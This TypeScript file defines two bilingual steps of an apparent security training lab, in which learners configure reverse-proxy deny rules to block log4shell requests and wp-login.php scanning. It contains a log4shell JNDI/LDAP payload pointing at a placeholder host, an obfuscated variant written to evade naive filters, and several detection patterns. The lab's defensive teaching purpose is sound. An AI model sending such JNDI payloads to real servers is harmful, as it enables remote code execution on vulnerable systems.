/** The steps of shield with deny rules: what meets one is answered 403 and goes no further. */
import type { Action } from '../../harness/actions.ts';
import type { Step } from '../../harness/lab.ts';
import { t } from '../../harness/text.ts';
import { customersGoOn, traceOfAttack, type Words } from './words.ts';

/** `\.php` at the end of a word. */
const noPhp = String.raw`no-php=\.php\b`;

function deny({ proxy, addressOf }: Words, ...rules: readonly string[]): Action {
  return proxy.relais([
    ...['listener', 'update', '--address', addressOf('proxy')],
    ...rules.flatMap(rule => ['--deny', rule]),
  ]);
}

function told({ proxy }: Words): Action {
  const words = ['events', '--no-follow', '--kind', 'request-denied', '--last', '3'];
  return proxy.relais(words, { replayed: false });
}

export function stopped(words: Words): Step {
  const { expect } = words;
  const attackPage = `/?q=${encodeURIComponent(`\${jndi:ldap://${traceOfAttack}/c}`)}`;
  return {
    id: 'stopped',
    title: t('Stopped at the door', 'Arrêté à la porte'),
    minutes: 4,
    say: t(
      'Give the proxy a deny rule. One is built in for exactly this case: log4shell. What meets it gets 403 and goes no further. No application is touched, nothing is restarted.',
      'Donnez au proxy une règle de refus. Il en a une toute prête pour ce cas : log4shell. Ce qui lui correspond reçoit 403 et ne va pas plus loin. On ne touche à aucune application, on ne redémarre rien.',
    ),
    predict: {
      ask: t(
        `Oscar sends \${\${lower:j}\${::-n}di:ldap://…}: the word jndi is not in it. What will he get?`,
        `Oscar envoie \${\${lower:j}\${::-n}di:ldap://…} : le mot jndi n’y figure pas. Que va-t-il recevoir ?`,
      ),
      choices: [
        {
          id: 'refused',
          text: t('403, like Mallory', '403, comme Mallory'),
          trueWhen: expect.sees('oscar', { status: 403 }),
        },
        {
          id: 'through',
          text: t('The shop: the rule does not see him', 'La boutique : la règle ne le voit pas'),
          trueWhen: expect.sees('oscar', { status: 200 }),
        },
      ],
    },
    act: [deny(words, 'log4shell'), told(words)],
    check: [
      {
        id: 'mallory-refused',
        claim: t('Mallory gets 403', 'Mallory reçoit 403'),
        probe: expect.sees('mallory', { status: 403 }),
        window: { within: '15s' },
        because: [
          {
            when: expect.sees('mallory', { status: 200 }, 1),
            say: t(
              'No rule at this listener stops her. relais listener list shows its rules.',
              'Aucune règle de ce listener ne l’arrête. relais listener list montre ses règles.',
            ),
          },
        ],
      },
      {
        id: 'oscar-refused',
        claim: t('Oscar’s riddle does not help him', 'La devinette d’Oscar ne l’aide pas'),
        probe: expect.sees('oscar', { status: 403 }),
        window: { within: '15s' },
        because: [
          {
            when: expect.sees('oscar', { status: 200 }, 1),
            say: t(
              'A pattern for the plain text does not see the riddle. The rule log4shell solves it first, as the library did.',
              'Un motif pour le texte en clair ne voit pas la devinette. La règle log4shell la résout d’abord, comme le faisait la bibliothèque.',
            ),
          },
        ],
      },
      {
        id: 'carol-served',
        claim: t(
          'Carol only asks what jndi is, and is served',
          'Carol demande seulement ce qu’est jndi, et elle est servie',
        ),
        probe: expect.sees('carol', { status: 200 }),
        window: { within: '15s' },
        because: [
          {
            when: expect.sees('carol', { status: 403 }, 1),
            say: t(
              'The rule is too wide: it refuses people who only speak about the attack.',
              'La règle est trop large : elle refuse les gens qui ne font que parler de l’attaque.',
            ),
          },
        ],
      },
      {
        id: 'log-clean',
        claim: t(
          'Not one more such text comes into the log of the shop',
          'Plus un seul de ces textes n’arrive dans le journal de la boutique',
        ),
        probe: expect.notLogged('shop', traceOfAttack),
        window: { within: '15s', for: '1s' },
      },
      {
        id: 'proxy-tells',
        claim: t(
          'The proxy wrote down who came, and which rule it was',
          'Le proxy a noté qui est venu, et quelle règle s’est appliquée',
        ),
        probe: expect.logged('proxy', 'log4shell', 2),
        window: { within: '15s' },
      },
      {
        id: 'refused-page',
        claim: t(
          'A browser that brings such a text sees 403',
          'Un navigateur qui apporte un tel texte voit 403',
        ),
        probe: expect.page({ status: 403, text: '403', at: { path: attackPage } }),
        window: { within: '20s' },
      },
    ],
    see: [
      {
        id: 'refused',
        visitor: 'second browser',
        at: { path: attackPage },
        alt: t('The proxy refuses: 403', 'Le proxy refuse : 403'),
      },
    ],
    hints: [
      t(
        'A rule belongs to the listener, the place where requests come in.',
        'Une règle appartient au listener, là où arrivent les requêtes.',
      ),
      t(
        'relais help listener update lists what can be changed; look for deny.',
        'relais help listener update donne tout ce qui peut changer ; cherchez deny.',
      ),
    ],
    mistakes: [
      {
        id: 'plain-text-only',
        act: [deny(words, String.raw`plain=\$\{jndi:`)],
        diagnosis: { check: 'oscar-refused', because: 0 },
      },
      {
        id: 'too-wide',
        act: [deny(words, 'word=jndi')],
        diagnosis: { check: 'carol-served', because: 0 },
      },
      {
        id: 'another-rule',
        act: [deny(words, noPhp)],
        diagnosis: { check: 'mallory-refused', because: 0 },
      },
    ],
    recap: t(
      'The attack ends at the proxy, which keeps the evidence; the application never sees it. That buys time to mend the application. It does not replace mending it.',
      'L’attaque s’arrête au proxy, qui garde les preuves ; l’application ne la voit jamais. Cela donne le temps de réparer l’application. Cela ne dispense pas de la réparer.',
    ),
  };
}

export function oneMoreRule(words: Words): Step {
  const { expect } = words;
  return {
    id: 'one-more-rule',
    title: t('One more rule', 'Une règle de plus'),
    minutes: 3,
    say: t(
      'A robot asks every site of the world for /wp-login.php, to try passwords. The shop has no such page, but must say so three times a second. Write a rule of your own, with a name and a pattern, and keep the first one.',
      'Un robot demande à tous les sites du monde /wp-login.php, pour y essayer des mots de passe. La boutique n’a pas cette page, mais doit le dire trois fois par seconde. Écrivez votre propre règle, avec un nom et un motif, et gardez la première.',
    ),
    act: [deny(words, 'log4shell', noPhp), told(words)],
    check: [
      {
        id: 'robot-refused',
        claim: t('The robot gets 403 from the proxy', 'Le robot reçoit 403 du proxy'),
        probe: expect.sees('robot', { status: 403 }),
        window: { within: '15s' },
        because: [
          {
            when: expect.sees('robot', { status: 404, site: 'shop' }, 1),
            say: t(
              'The shop still has to answer the robot: no rule meets /wp-login.php.',
              'La boutique doit encore répondre au robot : aucune règle ne correspond à /wp-login.php.',
            ),
          },
        ],
      },
      {
        id: 'shop-is-spared',
        claim: t('The shop hears no more of it', 'La boutique n’en entend plus parler'),
        probe: expect.notLogged('shop', '.php'),
        window: { within: '15s', for: '1s' },
      },
      {
        id: 'mallory-refused',
        claim: t('The first rule still stops Mallory', 'La première règle arrête toujours Mallory'),
        probe: expect.sees('mallory', { status: 403 }),
        window: { within: '15s' },
        because: [
          {
            when: expect.sees('mallory', { status: 200 }, 1),
            say: t(
              'The new list took the place of the old one, and log4shell is no longer in it. Name every rule again.',
              'La nouvelle liste a remplacé l’ancienne, et log4shell n’y est plus. Nommez à nouveau chaque règle.',
            ),
          },
        ],
      },
      customersGoOn(expect),
    ],
    hints: [
      t(
        'The option --deny may stand several times in one line. It may be a name and a pattern: name=pattern',
        'L’option --deny peut figurer plusieurs fois dans une ligne. Elle peut être un nom et un motif : nom=motif',
      ),
      t(
        String.raw`A point stands for any character in a pattern: write \. for a real one, and put the whole between quotes for the shell.`,
        String.raw`Dans un motif, un point remplace n’importe quel caractère : écrivez \. pour un vrai point, et mettez le tout entre guillemets pour le shell.`,
      ),
    ],
    mistakes: [
      {
        id: 'first-rule-forgotten',
        act: [deny(words, noPhp)],
        diagnosis: { check: 'mallory-refused', because: 0 },
      },
      {
        id: 'everything',
        act: [deny(words, 'log4shell', 'all=/')],
        diagnosis: { check: 'alice-served', because: 0 },
      },
    ],
  };
}
